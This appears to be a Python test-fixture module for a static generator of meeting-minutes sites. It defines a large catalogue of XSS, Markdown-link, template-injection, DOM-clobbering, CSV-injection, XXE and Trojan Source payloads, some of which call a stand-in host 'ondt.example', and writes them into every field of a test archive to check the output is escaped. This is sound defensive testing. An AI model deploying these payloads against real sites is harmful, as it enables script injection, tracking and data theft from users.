"""Known ways to smuggle script, style, markup or addresses through text, and an archive with them in every field.

Each is what a hostile, or merely careless, author of minutes could write. What would run calls `alert`, sets
`smuggled`, or asks `ondt.example` for something, so that a browser tells when one of them works.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from pathlib import Path

from generator import content
from generator.content import Parsed

EVIL = "https://ondt.example"

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    # the cheat sheets on cross-site scripting of OWASP ("XSS Filter Evasion") and PortSwigger
    "tags": (
        "<script>alert(1)</script>",
        f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\x0c>alert(1)</script\x0c>",
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>",
        f"<img src={EVIL}/spor.gif width=1 height=1>",
        "<img/src=x/onerror=alert(1)//",
        "<svg/onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        f"<iframe src=javascript:alert(1)></iframe><object data={EVIL}></object><embed src={EVIL}>",
        "<iframe srcdoc='&lt;script&gt;parent.smuggled=1&lt;/script&gt;'></iframe>",
        f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css';</style>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<base href={EVIL}/>",
        f"<form action={EVIL}><button formaction=javascript:alert(1)>Send</button></form>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "</title><script>alert(1)</script>",
        "</textarea></style></script><script>alert(1)</script>",
        "</h2></section></main></body></html><script>alert(1)</script>",
        "<!--><script>alert(1)</script-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "<x onclick=alert(1)>tryk</x>",
        "<xss style='position:fixed;inset:0' onmouseover=alert(1)>x</xss>",
        "＜script＞alert(1)＜/script＞",
        "\u00ad<scr\u00adipt>alert(1)</scr\u00adipt>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    # the same: out of an attribute
    "attributes": (
        '" onmouseover="alert(1)" x="',
        "' onmouseover='alert(1)' x='",
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        '" style="background:url(https://ondt.example/x)" class="visually-hidden',
        "` onmouseover=alert(1) `",
        '" autofocus onfocus=alert(1) "',
        "&quot; onmouseover=&quot;alert(1)",
        "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
        "x\x00\" onclick=alert(1) y='",
    ),
    # CommonMark 0.31, "Links"; markdown-it, docs/security.md; PortSwigger on Markdown
    "links": (
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](\x01javascript:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](%6aavascript:alert(1))",
        "[x](javascript://ondt.example/%0aalert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///c:/windows/system32/calc.exe)",
        "[x](\\\\ondt.example\\del)",
        "[x](//ondt.example/x)",
        "[x](/\\ondt.example/x)",
        "[x](ms-msdt:/id)",
        "[x](search-ms:query=x)",
        "[x](root:sager/25-1/)",
        "[x](../../../admin)",
        '[x](https://a.example/" onmouseover="alert(1))',
        '[x](https://a.example/ "t" onmouseover=alert(1) ")',
        "[x](https://a.example/ '\"><script>alert(1)</script>')",
        "[x](https://a.example/'onclick='alert(1))",
        "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        '[x][y]\n\n[y]: https://a.example "\\" onclick=\\"alert(1)"',
        "[y]\n\n[y]: <data:text/html,<script>alert(1)</script>>",
        "<javascript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        '<https://a.example/"onmouseover="alert(1)>',
        'https://a.example/"onmouseover="alert(1)',
        "https://a.example/'><script>alert(1)</script>",
        "www.a.example/<script>alert(1)</script>",
        "a@b.example?subject=<img/src=x/onerror=alert(1)>",
        "[x](attachments/../../../etc/passwd)",
        "[x](../attachments/javascript:alert(1))",
        '[x](../attachments/a"onclick="alert(1).html)',
        "[x [y](https://a.example) z](javascript:alert(1))",
        "[<script>alert(1)</script>](https://a.example)",
    ),
    "pictures": (
        f"![x]({EVIL}/spor.gif)",
        "![x](javascript:alert(1))",
        '![" onerror="alert(1)](x)',
        f"[![x]({EVIL}/spor.gif)](javascript:alert(1))",
        f"![x][y]\n\n[y]: {EVIL}/spor.png",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ),
    # CommonMark, "Fenced code blocks", "Headings"; GFM, "Tables"; the footnote plugin
    "blocks": (
        '```" onclick="alert(1)\nx\n```',
        "```</code></pre><script>alert(1)</script>\nx\n```",
        "~~~\n</code></pre><script>alert(1)</script>\n~~~",
        "    <script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "#### <script>alert(1)</script> {#x onclick=alert(1)}",
        '| a |\n| :---" onclick="alert(1) |\n| b |',
        "| <script>alert(1)</script> | b |\n| :-: | --: |\n| <img src=x onerror=alert(1)> | `</td><script>1</script>`|",
        '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
        "[^a] [^a]\n\n[^a]: <script>alert(1)</script> [x](javascript:alert(1))",
        "[^__proto__] [^constructor]\n\n[^__proto__]: x\n\n[^constructor]: y",
        "*[HRC]: <script>alert(1)</script>",
        "<sub onclick=alert(1)>2</sub><sub>x<script>alert(1)</script></sub>",
        "<b>x</b onclick=alert(1)><i>y</i/onload=alert(1)>",
        "<br onclick=alert(1)><br/onload=alert(1)/>",
        "<u><s><b><i></u></s></b></i>",
        "<div>\n\n<script>alert(1)</script>\n\n</div>",
        "<table><tr><td><form id=search><input name=action></table>",
        "a  \n<script>alert(1)</script>",
        "\\<script>alert(1)\\</script>",
        "- [x] <input type=checkbox onclick=alert(1)>",
        ":::note onclick=alert(1)\nx\n:::",
    ),
    # PortSwigger, "Server-side template injection"; Jinja2's own marks
    "templates": (
        "{{ 7*7 }}{% raw %}",
        "{{ site.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{# x #}${7*7}#{7*7}<%= 7*7 %>",
        "{{ '<script>alert(1)</script>'|safe }}",
        "{title}{0}%s%(x)s",
    ),
    # HTML, "DOM clobbering" (PortSwigger); prototype pollution
    "names": (
        "<a id=search name=elements><a id=search name=dataset>",
        "<form id=referat-preview><img name=remove>",
        "__proto__",
        "constructor",
        "toString",
        "search-hits",
        "indhold",
        "punkt-1",
        "con",
        "..",
        "../../index",
        "C:\\Windows\\x",
        "x\r\nSet-Cookie: a=b",
    ),
    # OWASP, "CSV Injection"; JSON and XML in pages and feeds
    "data": (
        '=HYPERLINK("https://ondt.example")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1",
        "\t=1+1",
        '</script><script>alert(1)</script>","x":"',
        "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "<mark><img src=x onerror=alert(1)></mark>",
        "\u2028alert(1)\u2029",
    ),
    # Boucher and Anderson, "Trojan Source", 2021; Unicode, UTS #39
    "letters": (
        "godkendt \u202etdnekdog ekki\u202c",
        "\u2066ikke\u2069 \u2067godkendt",
        "Dire\u0301ktionen",
        "Dirеktionen (Cyrillic)",
        "a\u200bb\u200c\u200d\ufeffc",
        "\U000e0073\U000e0065\U000e006e\U000e0064",
        "\x1b[31mrød\x07\x08",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
        "x" * 3000,
    ),
}

ALL = tuple(payload for payloads in PAYLOADS.values() for payload in payloads)

QUERIES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<mark><svg onload=alert(1)>",
    "__proto__",
    "constructor",
    "25/1<script>",
    "%00%0d%0a",
    "{{7*7}}",
    "\u202exyz",
)


def line(payload: str) -> str:
    """The payload as it can stand on one line."""
    return " ".join(payload.split())


def quoted(text: str) -> str:
    """`text` as YAML and TOML both write it."""
    plain = {sign for sign in map(chr, range(32, 127)) if sign not in '"\\'}
    return '"' + "".join(sign if sign in plain else f"\\U{ord(sign):08x}" for sign in text) + '"'


def everywhere(payload: str) -> str:
    """A section's text with the payload at each place that Markdown has."""
    one = line(payload)
    cell = one.replace("|", "\\|")
    label = re.sub(r"[\s\[\]]", "", payload)[:200] or "x"
    return (
        f"{payload}\n\nOrd {one} ord.\n\n**{one}** *{one}* ~~{one}~~ `{one}` <sub>{one}</sub>\n\n> {one}\n\n- {one}\n"
        f"  1. {one}\n\n#### {one}\n\n| {cell} | B |\n| :--- | ---: |\n| {cell} | {cell} |\n\n"
        f"[{one}](https://a.example/)\n\n[x]({one})\n\n[x](<{one}>)\n\n[x](https://a.example/{one})\n\n"
        f'[x](https://a.example/ "{one}")\n\n![{one}]({one} "{one}")\n\n<{one}>\n\n<https://a.example/{one}>\n\n'
        f"https://a.example/{one}\n\n[z{label}]\n\n[z{label}]: {one} '{one}'\n\n"
        f"Note[^{label}].\n\n[^{label}]: {one}\n\n``` {one}\n{payload}\n```\n"
    )


def meeting_file(payloads: Iterable[str], body: str, date: str) -> str:
    """A meeting's file as a person might write it, an item for each payload, which stands in every field."""
    payloads = tuple(payloads)
    names = [quoted(line(payload)) for payload in payloads]
    people = "".join(
        f"  - name: {name}\n    role: {name}\n    note: {name}\n    party: {name}\n"
        f"  - name: {quoted(f'A {line(payload)}')}\n    absent: true\n"
        for name, payload in zip(names, payloads, strict=True)
    )
    corrections = "".join(f"  - date: {date}\n    item: {text}\n    text: {text}\n" for text in names)
    items = "".join(_item(str(place), payload) for place, payload in enumerate(payloads, 1))
    return (
        f"---\ntitle: {names[0]}\ndate: {date}\nbody: {quoted(body)}\nplace: {names[0]}\n"
        f"source:\n  file: {names[0]}\n  sha256: {names[0]}\n"
        f"participants:\n{people}corrections:\n{corrections}---\n\n{everywhere(payloads[0])}\n{items}"
    )


def _item(number: str, payload: str) -> str:
    one = line(payload)
    return (
        f"\n## Punkt {number}: {one}\nSag: 25/{number}\n\n### Baggrund\n\n{everywhere(payload)}\n"
        f"### {one}\n\n{one}\n\n### Beslutning {one}\n\n{one}\n\n"
        f"### Bilag\n\n- {one}\n- [{one}](../../../attachments/findes-ikke.pdf)\n- [x]({one})\n"
        f"\n## Punkt {re.sub(r'[ :]', '', f'N{number}.{one}')}: Nummer\nSag: {one}\n\n### Beslutning\n\n{one}\n"
        f"\n## Punkt L{number}: Lukket\nSag: {one}\n"
    )


def archive_toml(payload: str) -> str:
    """`archive.toml` with the payload in every field."""
    text = quoted(line(payload))
    return (
        f"title = {text}\nowner = {text}\nnotice = {text}\ncontact = {text}\n"
        f"[[body]]\nname = {text}\ndescription = {text}\nspellings = [{text}]\n"
        f'[abbreviations]\n{text} = {text}\nHRC = {text}\n[cases]\n"25/1" = {text}\n{text} = {text}\n'
    )


def people_toml(payload: str) -> str:
    """`people.toml` likewise."""
    text = quoted(line(payload))
    return f"[[person]]\nname = {text}\ntitle = {text}\nspellings = [{text}]\n"


def parsed(payload: str) -> Parsed:
    """A meeting with the payload in every field, read as from its file."""
    return content.parse(meeting_file([payload], line(payload) or "Råd", "2025-03-10"), "x.md")


def write_archive(folder: Path) -> None:
    """`content/` with all the payloads: a meeting for each kind of them, its body named by the first."""
    for place, (kind, payloads) in enumerate(PAYLOADS.items()):
        text = meeting_file(payloads, f"{kind} {line(payloads[0])}", f"2025-03-{place + 1:02}")
        meeting = content.parse(text, "x.md").meeting
        assert meeting is not None
        file = folder / content.content_path(meeting)
        file.parent.mkdir(parents=True)
        file.write_text(text, encoding="utf-8")
    hostile = PAYLOADS["attributes"][2]
    (folder / "archive.toml").write_text(archive_toml(hostile), encoding="utf-8")
    (folder / "people.toml").write_text(people_toml(hostile), encoding="utf-8")
